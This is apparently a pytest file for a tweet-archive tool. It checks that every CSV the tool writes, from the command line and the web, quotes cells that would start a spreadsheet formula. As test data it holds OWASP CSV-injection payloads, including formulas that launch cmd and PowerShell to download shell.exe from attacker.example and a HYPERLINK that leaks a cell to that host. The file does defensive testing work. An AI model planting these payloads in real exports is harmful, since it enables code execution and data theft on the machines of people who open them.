"""Formula injection through CSV: no CSV meant for people hands a spreadsheet a cell it would run.

OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) are planted as tweet
texts, screen names, display names, clients and a hashed userid in a small archive loaded with `tweetsearch
index`, then read back with Python's csv module from every CSV the project writes: `export` (file and stdout),
`search`, `top` and `timeline` with `--format csv`, `network` (coordination and reply networks, file and stdout),
and the web's `/download.csv` and network downloads. No cell may start a formula; `--raw-cells` gives the archive's
bytes back exactly; numbers (counts, weights, a longitude of -77.03) stay numbers.

Whether a cell would run is judged here by `runs_as_formula`, written from OWASP's list, not by the code under test.
"""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ElementTree
from datetime import UTC, datetime
from pathlib import Path

import orjson
import pytest
from archive_samples import TWEET_COLUMNS, ira_row, load_rows
from starlette.testclient import TestClient

from common.connection import Settings
from indexer.normalise import TWITTER_EPOCH_MS
from search.spreadsheet import spreadsheet_cell, spreadsheet_row
from search_web.app import create_app

# OWASP's payloads and the variants spreadsheets also run (full-width forms, blanks before the formula).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click here")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tplain words after a tab",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "  =1+1",
    "\n=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(1,1)",
    "﹦1+1",
    "\u22121+1",
]
HARMLESS = ["vote today", "RT @someone: hi", "1-1", "'already quoted", "", " ", "a=b", "2016-10-07", "#MAGA"]
NUMBERS = ["-77.03", "38.8977", "-1", "0", "+5", "12.0", "-1e5", "-.5"]
FORMULA_CHARACTERS = "=+-@＝＋－＠﹦﹢﹣﹫\u2212"
BLANKS = " \t\r\n\u3000\ufeff\u200b\u00a0"
PLAIN_NUMBER = re.compile(r"[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?")

T0 = datetime(2017, 7, 14, 2, 40, tzinfo=UTC)
HASHED_PLUS = "+" + "A1b2C3d4E5" * 4 + "xy="  # a base64-like hashed userid that begins with a plus
"""Account A: a hashed id a spreadsheet reads as `=+A1b2…`."""
ACCOUNT_A = (HASHED_PLUS, "=cmd|' /C calc'!A0", '=HYPERLINK("http://attacker.example/","A")')
ACCOUNT_B = ("2000000002", "@SUM(1,1)", "-1+1")
LONGITUDE, LATITUDE = "-77.0365", "38.8977"
COORDINATED = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click here") vote', "@SUM(1,1) vote now please"]


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet could run `cell`, after OWASP: it starts with = + - @ (or a full-width or small form,
    or the minus sign), maybe after blanks, or with a tab or carriage return; a plain number runs nothing."""
    if cell.startswith("'"):
        return False
    if cell.startswith(("\t", "\r")):
        return True
    first = cell.lstrip(BLANKS)[:1]
    return first != "" and first in FORMULA_CHARACTERS and not PLAIN_NUMBER.fullmatch(cell)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_safe(rows: list[list[str]]) -> None:
    running = [cell for row in rows for cell in row if runs_as_formula(cell)]
    assert not running, running


def snowflake(moment: datetime, sequence: int) -> str:
    return str(((round(moment.timestamp() * 1000) - TWITTER_EPOCH_MS) << 22) + sequence)


def tweet(seconds: int, sequence: int, account: tuple[str, str, str], text: str, **changes: str) -> dict[str, str]:
    moment = T0.timestamp() + seconds
    when = datetime.fromtimestamp(moment, UTC)
    userid, screen_name, display_name = account
    return ira_row(
        tweetid=snowflake(when, sequence),
        userid=userid,
        user_screen_name=screen_name,
        user_display_name=display_name,
        tweet_text=text,
        tweet_time=when.strftime("%Y-%m-%d %H:%M"),
        latitude=LATITUDE,
        longitude=LONGITUDE,
        hashtags="[]",
        urls="[]",
        **changes,
    )


def archive_rows() -> list[dict[str, str]]:
    """Each payload as a tweet text (and as the client of another), ten minutes apart, oldest first; A and B
    post the same two texts two seconds apart (a coordination pair), and B replies to A (a reply network)."""
    rows = [
        tweet(600 * n, n, ACCOUNT_A if n % 2 else ACCOUNT_B, text, tweet_client_name=PAYLOADS[-1 - n])
        for n, text in enumerate(PAYLOADS)
    ]
    start = 600 * len(PAYLOADS)
    for k, text in enumerate(COORDINATED):
        rows.append(tweet(start + 600 * k, 100 + k, ACCOUNT_A, text))
        rows.append(
            tweet(
                start + 600 * k + 2, 200 + k, ACCOUNT_B, text, in_reply_to_userid=HASHED_PLUS, in_reply_to_tweetid="1"
            )
        )
    return rows


@pytest.fixture(scope="module")
def archive(cli, tmp_path_factory) -> Path:
    """The payload archive, loaded into the module's alias: every row indexed, none rejected."""
    return load_rows(cli, tmp_path_factory.mktemp("payloads"), archive_rows())


@pytest.fixture(scope="module")
def web(es_url, alias, archive) -> TestClient:
    return TestClient(create_app(Settings.from_env(url=es_url, alias=alias)))


# The cell itself


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_owasp_payload_becomes_text_with_its_characters_kept(payload):
    cell = spreadsheet_cell(payload)

    assert cell == "'" + payload
    assert not runs_as_formula(cell)


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_harmless_text_and_plain_numbers_are_left_as_they_are(text):
    assert spreadsheet_cell(text) == text


def test_a_row_is_its_cells_each_made_safe():
    values = PAYLOADS + HARMLESS + NUMBERS

    assert spreadsheet_row(values) == [spreadsheet_cell(value) for value in values]
    assert spreadsheet_row(values) != values


def test_the_payload_list_is_what_a_spreadsheet_would_run():
    assert all(runs_as_formula(payload) for payload in PAYLOADS)
    assert not any(runs_as_formula(text) for text in HARMLESS + NUMBERS)


# export


def test_an_exported_csv_file_runs_no_formula_and_keeps_every_payload_behind_a_quote(cli, archive, tmp_path):
    target = tmp_path / "tweets.csv"

    result = cli("export", "-o", str(target), "--json")

    header, *rows = cells(target.read_bytes().decode("utf-8"))
    assert result.exit_code == 0, result.stderr
    assert orjson.loads(result.stdout)["raw_cells"] is False
    assert_safe(rows)
    texts = [row[header.index("tweet_text")] for row in rows]
    assert texts[: len(PAYLOADS)] == ["'" + payload for payload in PAYLOADS]
    assert {row[header.index("userid")] for row in rows} == {"'" + HASHED_PLUS, ACCOUNT_B[0]}
    assert {row[header.index("user_screen_name")] for row in rows} == {"'" + ACCOUNT_A[1], "'" + ACCOUNT_B[1]}
    assert {row[header.index("longitude")] for row in rows} == {LONGITUDE}
    assert {row[header.index("latitude")] for row in rows} == {LATITUDE}
    assert {row[header.index("like_count")] for row in rows} == {"12"}


def test_an_export_to_stdout_with_the_campaign_runs_no_formula(cli, archive):
    result = cli("export", "-o", "-", "--with-campaign")

    header, *rows = cells(result.stdout)
    assert result.exit_code == 0, result.stderr
    assert header[0] == "campaign" and {row[0] for row in rows} == {"ira"}
    assert_safe(rows)
    assert len(rows) == len(archive_rows())


def test_raw_cells_export_is_the_archive_file_byte_for_byte(cli, archive, tmp_path):
    target = tmp_path / "raw.csv"

    result = cli("export", "-o", str(target), "--raw-cells", "--json")
    to_stdout = cli("export", "-o", "-", "--raw-cells")

    assert result.exit_code == 0, result.stderr
    assert orjson.loads(result.stdout)["raw_cells"] is True
    assert target.read_bytes() == archive.read_bytes()
    assert to_stdout.stdout.encode() == archive.read_bytes()


# search, top, timeline


def test_search_csv_runs_no_formula_and_keeps_counts_and_times(cli, archive):
    result = cli("search", "", "--format", "csv", "-n", "100", "--sort", "oldest")

    header, *rows = cells(result.stdout)
    assert result.exit_code == 0, result.stderr
    assert_safe(rows)
    assert [row[header.index("text")] for row in rows][: len(PAYLOADS)] == ["'" + payload for payload in PAYLOADS]
    assert {row[header.index("userid")] for row in rows} == {"'" + HASHED_PLUS, ACCOUNT_B[0]}
    assert {row[header.index("like_count")] for row in rows} == {"12"}
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:]+\+00:00", row[header.index("time")]) for row in rows)


def test_search_csv_with_raw_cells_gives_the_archived_text_exactly(cli, archive):
    result = cli("search", "", "--format", "csv", "-n", "100", "--sort", "oldest", "--raw-cells")

    header, *rows = cells(result.stdout)
    assert result.exit_code == 0, result.stderr
    assert [row[header.index("text")] for row in rows][: len(PAYLOADS)] == PAYLOADS
    assert [row[header.index("client")] for row in rows][: len(PAYLOADS)] == PAYLOADS[::-1]


@pytest.mark.parametrize("field", ["clients", "accounts"])
def test_top_csv_runs_no_formula_and_its_counts_stay_numbers(cli, archive, field):
    result = cli("top", field, "--format", "csv", "-n", "100")
    raw = cli("top", field, "--format", "csv", "-n", "100", "--raw-cells")

    header, *rows = cells(result.stdout)
    _, *raw_rows = cells(raw.stdout)
    assert result.exit_code == raw.exit_code == 0, result.stderr
    assert_safe(rows)
    assert all(row[header.index("count")].isdigit() for row in rows)
    assert [[spreadsheet_cell(cell) for cell in row] for row in raw_rows] == rows
    if field == "clients":
        assert {row[0] for row in raw_rows} >= set(PAYLOADS) - {"\r=1+1"}  # kept whole in a keyword


def test_timeline_csv_holds_only_the_projects_own_cells(cli, archive):
    result = cli("timeline", "--format", "csv", "--interval", "day", "--by", "campaign")

    header, *rows = cells(result.stdout)
    assert result.exit_code == 0, result.stderr
    assert header == ["start", "label", "count", "campaign:ira"]
    assert_safe(rows)


# networks


@pytest.mark.parametrize("kind", ["coordination", "reply"])
def test_network_csv_runs_no_formula_and_its_weights_stay_numbers(cli, archive, tmp_path, kind):
    target = tmp_path / f"{kind}.csv"

    written = cli("network", "--kind", kind, "--out", str(target))
    to_stdout = cli("network", "--kind", kind, "--out", "-")
    raw = cli("network", "--kind", kind, "--out", "-", "--raw-cells")

    header, *rows = cells(target.read_bytes().decode("utf-8"))
    _, *raw_rows = cells(raw.stdout)
    assert written.exit_code == to_stdout.exit_code == raw.exit_code == 0, written.stderr
    assert cells(to_stdout.stdout) == [header, *rows]
    assert len(rows) == 1
    assert_safe(rows)
    ends = {row[header.index("source")]: row[header.index("source_screen_name")] for row in rows}
    ends.update({row[header.index("target")]: row[header.index("target_screen_name")] for row in rows})
    raw_ends = {row[0]: row[1] for row in raw_rows} | {row[3]: row[4] for row in raw_rows}
    assert ends == {"'" + HASHED_PLUS: "'" + ACCOUNT_A[1], ACCOUNT_B[0]: "'" + ACCOUNT_B[1]}
    assert raw_ends == {HASHED_PLUS: ACCOUNT_A[1], ACCOUNT_B[0]: ACCOUNT_B[1]}
    assert rows[0][header.index("weight")] == "2"


@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
def test_xml_networks_keep_the_names_exactly_as_escaped_xml(cli, archive, tmp_path, fmt):
    target = tmp_path / f"reply.{fmt}"

    result = cli("network", "--kind", "reply", "--out", str(target))

    assert result.exit_code == 0, result.stderr
    elements = list(ElementTree.parse(target).iter())
    values = {element.get(name) for element in elements for name in ("id", "value", "label")} | {
        element.text for element in elements
    }
    assert {ACCOUNT_A[1], ACCOUNT_B[1], HASHED_PLUS} <= values


# the web's downloads: always neutralised, no way to ask for raw cells


def test_the_web_download_csv_runs_no_formula_whatever_the_address_asks(web, archive):
    answer = web.get("/download.csv", params={"q": "", "raw_cells": "1", "raw-cells": "true"})

    header, *rows = cells(answer.content.decode("utf-8"))
    assert answer.status_code == 200
    assert len(rows) == len(archive_rows())
    assert_safe(rows)
    assert [row[header.index("tweet_text")] for row in rows][: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert {row[header.index("longitude")] for row in rows} == {LONGITUDE}


@pytest.mark.parametrize("kind", ["coordination", "reply"])
def test_the_web_network_csv_runs_no_formula_and_is_what_the_command_writes(web, cli, archive, kind):
    answer = web.get("/coordination/network.csv", params={"q": "", "kind": kind, "raw_cells": "1"})
    written = cli("network", "--kind", kind, "--out", "-")

    _, *rows = cells(answer.content.decode("utf-8"))
    assert answer.status_code == 200
    assert len(rows) == 1
    assert_safe(rows)
    assert answer.content.decode("utf-8") == written.stdout


def test_the_jsonl_download_stays_exact(web, archive):
    answer = web.get("/download.jsonl", params={"q": ""})

    texts = [orjson.loads(line)["raw"]["tweet_text"] for line in answer.content.splitlines()]
    assert texts[: len(PAYLOADS)] == PAYLOADS


def test_every_command_that_writes_csv_says_raw_cells_is_unsafe_in_a_spreadsheet(cli):
    for command in ("export", "search", "top", "network"):
        help_text = " ".join(cli(command, "--help").stdout.split())
        assert "--raw-cells" in help_text, command
        assert "unsafe to open in a spreadsheet" in help_text, command


def test_the_archive_columns_are_the_exports_columns():
    from common.records import TWEET_COLUMNS as EXPORTED

    assert TWEET_COLUMNS == EXPORTED  # so the raw export can equal the archive file byte for byte
